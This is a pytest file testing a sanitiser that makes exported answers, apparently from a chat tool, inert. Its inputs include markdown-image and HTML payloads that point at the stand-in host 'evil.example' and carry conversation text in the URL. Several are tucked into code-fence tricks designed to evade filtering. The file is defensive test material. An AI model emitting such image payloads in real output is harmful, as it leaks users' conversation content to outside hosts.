"""An exported answer fetches nothing when somebody opens it, and loses none of its words."""

import pytest

from tessera.studio.inert import inert

PICTURE = "![x](https://evil.example/?what=you+said)"


@pytest.mark.parametrize(
    "text",
    [
        PICTURE,
        f"a `b` {PICTURE}",
        f"a ` b\n`{PICTURE}` c",
        f"\\`{PICTURE}\\`",
        f"```a`\n{PICTURE}",
        f"- ```\n  code\n{PICTURE}",
        f"> ```\n{PICTURE}",
        f"```\ncode\n```\n{PICTURE}",
        f"```\ncode\n  ```  \n{PICTURE}",
        f"~~~\n```\n~~~\n{PICTURE}",
        "![x][y]\n\n[y]: https://evil.example/",
        "<img src='https://evil.example/'>",
        "\\<img src='https://evil.example/'>",
        "<!-- --><iframe src=x>",
        "a\r\n<img src=x>",
    ],
)
def test_nothing_is_loaded(text: str) -> None:
    shown = inert(text)
    assert "![" not in shown
    for tag in ("<img", "<iframe", "<!--", "<div"):
        assert tag not in shown


def test_a_tag_cannot_hide_where_code_begins() -> None:
    assert inert(f"<div>\n```\n\n{PICTURE}") == f"&lt;div>\n```\n\n{PICTURE}"


@pytest.mark.parametrize(
    "text",
    [
        "1 < 2 and 3 > 2! [a](https://a.example)",
        "`List<int>` and ``a ` <b>``",
        "```html\n<img src='x'> ![a](b)\n```",
        "~~~\n<b>\n~~~",
        "",
    ],
)
def test_words_links_and_code_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
